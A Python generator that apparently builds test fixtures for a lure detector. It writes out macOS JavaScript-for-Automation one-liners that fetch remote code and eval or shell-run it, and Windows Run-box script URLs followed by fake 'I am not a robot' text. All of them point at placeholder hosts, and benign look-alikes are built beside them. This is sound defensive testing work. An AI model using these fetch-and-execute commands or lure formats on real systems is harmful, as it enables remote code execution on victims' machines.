"""Writes tests/data/cases/b7lures.jsonl: lures a seventh blind set found missing, each written
here in our own variants (spelling, quoting, obfuscation, host, page, target) beside the
everyday texts that look like them and must stay quiet.

    python tests/data/cases/make_b7lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses; phone numbers are fictional ranges; no text
is copied from a lure collection, an IOC file, another detector's fixtures or the blind sets.
Each line is {id, text, expect, technique, platform[, source], target}.

Techniques:

- `jxa-remote-eval`: macOS JavaScript for Automation (osascript -l JavaScript, ObjC.import)
  fetching a URL through Foundation (NSData/NSString ...ContentsOfURL, NSURLSession) and
  running what it got (eval, Function, doShellScript of it, NSAppleScript), or a downloaded
  .js file run by osascript -l JavaScript. Look-alikes: JXA that automates local apps, reads a
  local file, fetches a URL only to show it, runs a fixed shell command.
- `url-script-verify-tail`: the address of a script (.ps1, .hta, .vbs, .bat, .cmd, .msi, .js)
  followed by a fake check's words ("Confirm you are human", "I am not a robot") with or
  without a check mark, bare and in the Run box. Look-alikes: a bookmark list with notes, a
  script's address in a sentence, a link to a captcha's docs.
- `curl-lure-page` (and `-bare`): curl|bash, /bin/bash -c "$(curl …)", bash <(curl …),
  | sudo bash from a page dressed as a download or fix page for a product (the product's name
  in a host label of a download or help site, a borrowed company with the trouble), from a
  host imitating a forge's content host or a vendor, from a fix shop's host, or with a fake
  error in its comment. Look-alikes: vendors' own installers from their own pages, a
  tutorial quoting a vendor's installer (a warning at most), a company's product site.
- `app-zip-to-applications`: a zip or dmg downloaded, unpacked into /Applications and opened,
  from a page dressed as the product's. Look-alikes: the project's own release from its page.
- `stranger-clone-build`: git clone from a host that is no public forge, then npm/yarn/pnpm
  install or run, pip install, make, cargo run, go run (flagged), and from a job-task page or
  with a job-task pretext (blocked), also from a forge. Look-alikes: projects' own READMEs,
  tutorials cloning a GitHub project, an internal server.
- `support-scam-national` / `callback-national`: tech-support and callback texts with national
  phone formats of the 13 languages (French 0x xx xx xx xx in any grouping, German 0800/0180
  and area codes, +49 (0) forms, Spanish 9xx, Brazilian (xx) xxxxx-xxxx, Turkish 444, Russian
  8 (xxx), Chinese mobiles, Saudi 9200) and the pushes 'you did not place this order'.
  Look-alikes: real support mails and order mails with a number and no alarm.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b7lures.jsonl")
book = casefile.Book("b7l")


def both(technique: str, text: str, platform: str, target: str, source: str | None) -> None:
    """A lure in its context (malicious), and bare: at least flagged."""
    book.add(technique, text, "malicious", platform, target, source)
    book.add(technique, text, "flagged", platform, "unknown")


def quiet(technique: str, text: str, platform: str, target: str, source: str | None) -> None:
    book.add(technique, text, "not_flagged", platform, target, source)


# ---- macOS: JavaScript for Automation fetching code and running it ---------------------------
JXA_PAGES = (
    "https://www.larkspur-bakery.example/menu",
    "https://fix.mac-helpdesk.test/jxa",
    None,
)
JXA_HOSTS = (
    "https://j.ledger-cradle.test/p",
    "https://198.51.100.23/s.js",
    "https://cdn.nimbus-dl.invalid/a",
)
JXA_LURES = (
    # NSData then NSString, evaluated
    'osascript -l JavaScript -e \'ObjC.import("Foundation");var d=$.NSData.dataWithContentsOfURL'
    '($.NSURL.URLWithString("{u}"));eval($.NSString.alloc.initWithDataEncoding(d,4).js)\'',
    # the evaluation written first, ObjC.unwrap, double quotes outside
    'osascript -l JavaScript -e "eval(ObjC.unwrap($.NSString.stringWithContentsOfURLEncodingError('
    "$.NSURL.URLWithString('{u}'),4,null)))\"",
    # Function instead of eval
    'osascript -l JavaScript -e \'ObjC.import("Cocoa"); var s = $.NSString.alloc.'
    'initWithContentsOfURL($.NSURL.URLWithString("{u}")); Function(ObjC.unwrap(s))()\'',
    # the fetched text handed to doShellScript
    "osascript -l JavaScript -e 'var a=Application.currentApplication();a.includeStandardAdditions"
    '=true;var t=$.NSString.stringWithContentsOfURL($.NSURL.URLWithString("{u}")).js;'
    "a.doShellScript(t)'",
    # NSAppleScript compiling what it fetched
    'osascript -l JavaScript -e \'ObjC.import("Foundation");var src=$.NSString.stringWithContents'
    'OfURL($.NSURL.URLWithString("{u}"));$.NSAppleScript.alloc.initWithSource(src).'
    "executeAndReturnError(null)'",
    # a heredoc
    "osascript -l JavaScript <<'EOF'\nObjC.import('Foundation')\nconst u = $.NSURL.URLWithString"
    "('{u}')\nconst d = $.NSData.dataWithContentsOfURL(u)\neval($.NSString.alloc."
    "initWithDataEncoding(d, $.NSUTF8StringEncoding).js)\nEOF",
    # a .js file downloaded and run by osascript
    "curl -fsSL {u} -o /tmp/.u.js && osascript -l JavaScript /tmp/.u.js",
)
for i, lure in enumerate(JXA_LURES):
    for j, page in enumerate(JXA_PAGES):
        if (i + j) % 2 and page is not None:
            continue
        text = lure.replace("{u}", JXA_HOSTS[(i + j) % len(JXA_HOSTS)])
        if page is None:
            book.add("jxa-remote-eval", text, "flagged", "macos", "unknown")
        else:
            both("jxa-remote-eval", text, "macos", "terminal", page)
JXA_QUIET = (
    "osascript -l JavaScript -e 'Application(\"Finder\").windows().map(w => w.name())'",
    "osascript -l JavaScript -e 'var app = Application(\"Music\"); app.playpause()'",
    'osascript -l JavaScript -e \'ObjC.import("Foundation"); $.NSString.stringWithContentsOfFile'
    '("/etc/hosts").js\'',
    # fetches a URL only to show it
    'osascript -l JavaScript -e \'ObjC.import("Foundation"); console.log($.NSString.'
    'stringWithContentsOfURL($.NSURL.URLWithString("https://api.github.com/zen")).js)\'',
    # a fixed shell command
    "osascript -l JavaScript -e 'var a=Application.currentApplication();a.includeStandardAdditions"
    '=true;a.doShellScript("say done")\'',
    'osascript -l JavaScript -e \'Application("System Events").processes.whose({frontmost: true})'
    "[0].name()'",
    "osascript -l JavaScript ~/Library/Scripts/tile-windows.js",
)
JXA_QUIET_PAGES = (
    "https://developer.apple.com/library/archive/releasenotes/InterapplicationCommunication/"
    "RN-JavaScriptForAutomation/Articles/OSX10-10.html",
    "https://github.com/JXA-Cookbook/JXA-Cookbook/wiki/Shell-and-CLI-Interactions",
)
for i, text in enumerate(JXA_QUIET):
    quiet("jxa-remote-eval", text, "macos", "terminal", JXA_QUIET_PAGES[i % 2])
    quiet("jxa-remote-eval", text, "macos", "unknown", None)


# ---- a script's address with a fake check's words after it ----------------------------------
TAIL_URLS = (
    "https://ps.check-gate.invalid/human.ps1",
    "https://203.0.113.77/v/verify.hta",
    "http://cdn.captcha-cloud.test/r.vbs",
    "https://files.mirror-node.test/run.cmd?id=7",
    "https://w.turnstile-go.invalid/setup.msi",
    "https://x.relay-verify.test/s.bat",
)
TAILS = (
    "  ✔ Confirm you are human - press Enter",
    " Confirm you are human and press Enter",
    "\tI am not a robot - reCAPTCHA Verification ID: 5521",
    " ✓ Verify you are human",
    "   Prove you're not a robot",
    " ✅ I'm not a robot",
    " Ich bin kein Roboter - Bestätigung 4471",
    " Je ne suis pas un robot",
)
TAIL_PAGES = ("https://www.quince-jam.example/", "https://check.human-gate.test/cf", None)
for i, tail in enumerate(TAILS):
    for j in (0, 3):
        url = TAIL_URLS[(i + j) % len(TAIL_URLS)]
        page = TAIL_PAGES[(i + j) % len(TAIL_PAGES)]
        if page is None:
            book.add("url-script-verify-tail", url + tail, "flagged", "windows", "run_dialog")
        else:
            both("url-script-verify-tail", url + tail, "windows", "run_dialog", page)
URL_QUIET = (
    "https://intranet.example.com/tools/setup.msi  installer for the lab machines",
    "https://docs.example.org/guide/captcha.html  notes on how our captcha works",
    "https://github.com/PowerShell/PowerShell/blob/master/tools/install-powershell.ps1 (see the"
    " docs)",
    "https://www.example.com/scripts/backup.ps1 - nightly backup, run by the scheduler",
    "https://learn.microsoft.com/en-us/windows/win32/msi/command-line-options",
    "https://example.org/verify.html Verify your e-mail address",
)
for text in URL_QUIET:
    quiet("url-script-verify-tail", text, "windows", "unknown", None)
    quiet("url-script-verify-tail", text, "windows", "other", "https://wiki.example.com/it/links")

CASES = book.cases


def main() -> None:
    casefile.write(OUT, CASES)


if __name__ == "__main__":
    main()
